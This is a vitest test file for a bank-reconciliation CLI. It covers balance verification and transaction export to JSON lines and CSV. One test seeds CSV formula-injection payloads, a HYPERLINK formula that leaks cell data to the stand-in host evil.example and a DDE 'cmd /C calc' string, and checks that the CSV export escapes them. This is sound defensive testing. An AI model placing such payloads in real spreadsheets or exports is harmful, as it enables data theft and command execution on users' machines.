import { readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { PassThrough, Writable } from 'node:stream'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { runCli, type CommandIo } from '../../src/cli/index.js'
import { exportMirror } from '../../src/mirror-export/index.js'
import { CONNECTION_A, CONNECTION_B, txId, writeMirrorFixture } from '../support/mirror-fixture.js'
import {
  createTestDatabase,
  TEST_DATABASE_URL,
  type TestDatabase,
  TEST_SECRET_KEY,
} from '../support/test-database.js'

let database: TestDatabase

beforeAll(async () => {
  database = await createTestDatabase('cli_mirror')
  await writeMirrorFixture(database.db)
})

afterAll(async () => {
  await database?.drop()
})

async function cli(argv: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = ''
  let stderr = ''
  const io: CommandIo = {
    stdout: new Writable({
      write(chunk, _encoding, done) {
        stdout += String(chunk)
        done()
      },
    }),
    stderr: new Writable({
      write(chunk, _encoding, done) {
        stderr += String(chunk)
        done()
      },
    }),
    env: {
      DATABASE_URL: TEST_DATABASE_URL,
      BANKREC_SECRET_KEY: TEST_SECRET_KEY,
      BANKREC_SCHEMA: database.schema,
      LOG_LEVEL: 'error',
    },
    untilStopped: () => new Promise(() => undefined),
  }
  const code = await runCli(argv, io)
  return { code, stdout, stderr }
}

describe('bankrec verify', () => {
  it('exits 0 and says every day adds up when it does', async () => {
    const { code, stdout } = await cli(['verify'])
    expect(code).toBe(0)
    expect(stdout).toContain('balance proof: 2 accounts, 5 days, every day adds up')
  })

  it('prints the proof as JSON with --format json', async () => {
    const { code, stdout } = await cli(['verify', '--connection', CONNECTION_A, '--format', 'json'])
    expect(code).toBe(0)
    const document = JSON.parse(stdout)
    expect(document.summary).toEqual({ accounts: 2, days: 5, problemDays: 0, awaitingSyncDays: 0, ok: true })
    expect(document.data).toHaveLength(5)
  })

  it('exits 1 and names the day when one does not add up', async () => {
    await sql`update transactions set amount = '10.51' where id = ${txId(1)}`.execute(database.db)
    try {
      const { code, stdout } = await cli(['verify', '--connection', CONNECTION_A])
      expect(code).toBe(1)
      expect(stdout).toMatch(
        /2026-03-01 {2}mirrored posted -1239\.49 {2}bank delta -1239\.50 .*difference 0\.01/,
      )
      expect(stdout).toContain('1 days do not add up')
      const json = await cli(['verify', '--format', 'json'])
      expect(json.code).toBe(1)
      expect(JSON.parse(json.stdout).summary.ok).toBe(false)
    } finally {
      await sql`update transactions set amount = '10.50' where id = ${txId(1)}`.execute(database.db)
    }
  })

  it.each([
    [['verify', '--format', 'xml']],
    [['verify', '--connection', 'not-a-uuid']],
    [['verify', '--bogus']],
  ])('exits 2 on bad usage: %j', async (argv) => {
    const { code, stderr } = await cli(argv)
    expect(code).toBe(2)
    expect(stderr).not.toBe('')
  })
})

describe('bankrec mirror export', () => {
  it("writes the connection's transactions as JSON lines, amounts exactly as stored", async () => {
    const { code, stdout, stderr } = await cli(['mirror', 'export', '--connection', CONNECTION_A])
    expect(code).toBe(0)
    const records = stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line))
    expect(records.map((r) => r.id)).toEqual([1, 2, 3, 4, 5, 6].map(txId))
    expect(records[1]).toEqual({
      id: txId(2),
      accountId: 'a1a1a1a1-0000-4000-8000-000000000001',
      postedDate: '2026-03-01',
      amount: '-1250.00',
      currency: 'USD',
      status: 'posted',
      paymentReference: 'INV-2',
      description: 'ACME, Inc. "rent"\nMarch',
      updatedAt: '2026-03-01T10:00:00.000Z',
    })
    expect(records[5]).toMatchObject({ amount: null, postedDate: null, updatedAt: null, status: null })
    expect(stderr).toContain('exported 6 transactions')
  })

  it('writes CSV with a header, RFC 4180 quoting and CRLF line ends', async () => {
    const { code, stdout } = await cli(['mirror', 'export', '--connection', CONNECTION_A, '--format', 'csv'])
    expect(code).toBe(0)
    const lines = stdout.split('\r\n')
    expect(lines[0]).toBe(
      'id,accountId,postedDate,amount,currency,status,paymentReference,description,updatedAt',
    )
    expect(stdout).toContain(
      `${txId(2)},a1a1a1a1-0000-4000-8000-000000000001,2026-03-01,-1250.00,USD,posted,INV-2,` +
        `"ACME, Inc. ""rent""\nMarch",2026-03-01T10:00:00.000Z\r\n`,
    )
    expect(stdout).toContain(`${txId(6)},a1a1a1a1-0000-4000-8000-000000000001,,,USD,,INV-6,Payment 6,\r\n`)
    expect(lines.at(-1)).toBe('')
  })

  it('escapes payer-written text a spreadsheet would run as a formula; JSON lines keep it byte-exact', async () => {
    const formulas = {
      payment_reference: '=HYPERLINK("https://evil.example/?"&A1,"Invoice")',
      description: "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    await sql`update transactions set payment_reference = ${formulas.payment_reference},
      description = ${formulas.description} where id = ${txId(3)}`.execute(database.db)
    try {
      const csv = await cli(['mirror', 'export', '--connection', CONNECTION_A, '--format', 'csv'])
      const row = csv.stdout.split('\r\n').find((line) => line.startsWith(txId(3)))!
      expect(row).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Invoice"")",`)
      expect(row).toContain(`,'@SUM(1+1)*cmd|' /C calc'!A0,`)
      expect(row.split(',').some((cell) => /^[=+\-@]/.test(cell) && !/^-?\d/.test(cell))).toBe(false)
      const jsonl = await cli(['mirror', 'export', '--connection', CONNECTION_A])
      const record = jsonl.stdout
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line))
        .find((r) => r.id === txId(3))
      expect(record).toMatchObject({
        paymentReference: formulas.payment_reference,
        description: formulas.description,
      })
    } finally {
      await sql`update transactions set payment_reference = 'INV-3', description = 'Payment 3'
        where id = ${txId(3)}`.execute(database.db)
    }
  })

  it('writes to --output FILE', async () => {
    const file = path.join(tmpdir(), `bankrec-export-${process.pid}-${Date.now()}.jsonl`)
    try {
      const { code, stdout } = await cli(['mirror', 'export', '--connection', CONNECTION_B, '--output', file])
      expect(code).toBe(0)
      expect(stdout).toBe('')
      const lines = (await readFile(file, 'utf8')).trimEnd().split('\n')
      expect(lines.map((l) => JSON.parse(l).id)).toEqual([txId(7)])
    } finally {
      await rm(file, { force: true })
    }
  })

  it('exits 2 without --connection or with an unknown format', async () => {
    expect((await cli(['mirror', 'export'])).code).toBe(2)
    expect((await cli(['mirror', 'export', '--connection', CONNECTION_A, '--format', 'xlsx'])).code).toBe(2)
  })

  it('streams page by page: every row once across page boundaries', async () => {
    const out = new PassThrough()
    let text = ''
    out.on('data', (chunk) => (text += String(chunk)))
    const { rows } = await exportMirror(
      database.db,
      { connectionId: CONNECTION_A, format: 'jsonl', pageSize: 4 },
      out,
    )
    expect(rows).toBe(6)
    expect(
      text
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l).id),
    ).toEqual([1, 2, 3, 4, 5, 6].map(txId))
  })
})
